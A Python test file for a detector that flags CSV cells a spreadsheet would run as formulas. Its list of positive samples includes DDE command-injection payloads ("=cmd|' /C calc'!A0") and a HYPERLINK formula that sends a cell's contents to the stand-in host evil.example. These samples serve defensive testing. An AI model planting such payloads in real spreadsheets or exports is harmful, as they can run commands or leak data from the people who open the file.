"""Cells that a spreadsheet would run: which they are, and that looking for them is no work where there are none."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pyarrow as pa
import pytest

from generator.problems import Problem
from generator.tables.formulas import Formulas, and_more, formula_cells
from tests.tables.table_packages import check_and_advise, table, write

RUN = [
    "=1+1", "=1", "= A1", "=-1", "=+1", "=@SUM(1)", "=汉字", "=表1!A1", "=#REF!", '="a"&A1', "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A2,"x")', "+1+1", "-1*2", "-(1+2)*3", "-5-10",
    "+86-750-3127888", "-A1", "+$A$1", "+Sheet1!A1", "-SUM(1)", "-2+3+cmd|' /C calc'!A0", "-x+HYPERLINK(\"http://x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r\n =1+1", "\n=A1", "\0=1", "＝1+1", "＋A1", "－2+3", "＠SUM(1)",
]  # fmt: skip
STAY = [
    "", " ", "-", "--", "---", "——", "－", "－－", "+", "=", "=>", "@", "-5", "+5", "+3.2%", "-1,234.5", "-1e5", "-1.5E-3",
    "-0750", "-5℃", "-5~10", "-12:30", "+86 750 3127888", "+86 0750-3127888", "+86(750)3127888", "- 要点", "-要点",
    "-- 无 --", "-abc", "- item (see note)", "-见附件(1)", "@张三", "@handle", "=====", "== 标题 ==", "'=1+1", '"=1+1"',
    "a=1", " =1", "（一）", "，", "A1", "\t制表", "\n换行", "2024-01-06", "ï", "￥5",
]  # fmt: skip


@pytest.mark.parametrize("kind", [pa.string(), pa.large_string()])
def test_what_runs_is_told_from_what_looks_odd(kind: pa.DataType) -> None:
    found = formula_cells(pa.array([*RUN, *STAY], kind))
    assert found is not None
    wrong = [
        c
        for c, told, runs in zip([*RUN, *STAY], found.to_pylist(), [True] * len(RUN) + [False] * len(STAY), strict=True)
        if told != runs
    ]
    assert wrong == []


def test_slices_nulls_and_empty_arrays() -> None:
    cells = pa.array(["=1", None, "x", "", None, "=2", "y"])
    found = formula_cells(cells.slice(1, 5))
    assert found is not None
    assert found.to_pylist() == [False, False, False, False, True]
    for nothing in (pa.array([], pa.string()), pa.array(["", ""]), pa.array([None], pa.string()), cells.slice(1, 3)):
        assert formula_cells(nothing) is None
    assert formula_cells(pa.array(["x", "（"])) is None, "the last bytes of the data are not read beyond"


def test_cells_of_several_parts_are_counted_together() -> None:
    found = and_more(None, pa.array(["a", "b"]), 0)
    found = and_more(found, pa.array(["c", "=1", "-2+3"]), 2)
    assert and_more(found, pa.array(["@SUM(1)"]), 5) == Formulas(3, "=1", 3)


def test_looking_costs_as_much_as_a_few_comparisons() -> None:
    """About 1 ns a row. Held against numpy on the same array, since machines differ."""
    words = ["江门市蓬江区", "新会区", "abc", "白沙街道办事处12号", "x", "", "2024"]
    cells = pa.array([words[i * 7919 % len(words)] for i in range(200_000)])
    offsets = np.frombuffer(cells.buffers()[1], np.int32)
    assert _seconds(lambda: formula_cells(cells)) < 12 * _seconds(lambda: np.diff(offsets.astype(np.int64)).max())


def _seconds(work: Callable[[], object]) -> float:
    times = []
    for _ in range(15):
        start = time.process_time()
        work()
        times.append(time.process_time() - start)
    return min(times)


def test_a_hostile_text_keeps_nobody_waiting() -> None:
    cells = pa.array(["-" + "a" * 200_000 + "|", "+" + "(" * 200_000, "-" + "1+" * 100_000 + "x"])
    start = time.process_time()
    formula_cells(cells)
    assert time.process_time() - start < 2


def advice(folder: Path, text: str, **properties: object) -> tuple[Problem, ...]:
    write(folder, {"a.csv": text})
    fields = [{"name": "a"}, {"name": "n", "type": "integer"}, {"name": "b"}]
    return check_and_advise(table("a.csv", *fields, **properties), folder)


def test_the_first_cell_is_named_by_row_and_line(tmp_path: Path) -> None:
    text = 'a,n,b\n"two\nlines",-1,x\nx,-2,-\n=1+1,3,@SUM(1)\n-A1,4,x\n'
    assert [(p.name, p.file, p.field, p.column, p.row, p.line, p.value, p.more) for p in advice(tmp_path, text)] == [
        ("formula-cells", "agency/dataset/a.csv", "a", 1, 4, 5, "=1+1", (("count", "2"),)),
        ("formula-cells", "agency/dataset/a.csv", "b", 3, 4, 5, "@SUM(1)", (("count", "1"),)),
    ]


def test_preambles_and_comments_count_as_rows(tmp_path: Path) -> None:
    text = "表一,,\na,n,b\n#,,\nx,1,=1\n"
    found = advice(tmp_path, text, dialect={"headerRows": [2], "commentChar": "#"})
    assert [(p.row, p.line) for p in found] == [(4, 4)]


def test_a_table_without_formulas_has_no_advice(tmp_path: Path) -> None:
    assert advice(tmp_path, "a,n,b\n-,-1,- x\n") == ()
